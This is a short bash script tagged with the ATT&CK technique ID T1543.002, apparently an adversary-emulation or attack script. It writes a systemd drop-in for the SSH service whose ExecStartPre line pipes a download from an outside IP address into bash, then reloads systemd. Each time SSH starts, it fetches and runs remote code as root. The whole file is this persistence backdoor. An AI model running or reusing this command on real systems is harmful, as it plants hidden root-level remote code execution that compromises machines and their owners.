#!/bin/bash
# T1543.002: A service that is there already starts something else before it.
mkdir -p /etc/systemd/system/ssh.service.d; printf '[Service]\nExecStartPre=-/bin/bash -c "/usr/bin/curl -s http://44.128.66.66/x | bash"\n' >/etc/systemd/system/ssh.service.d/override.conf
systemctl daemon-reload
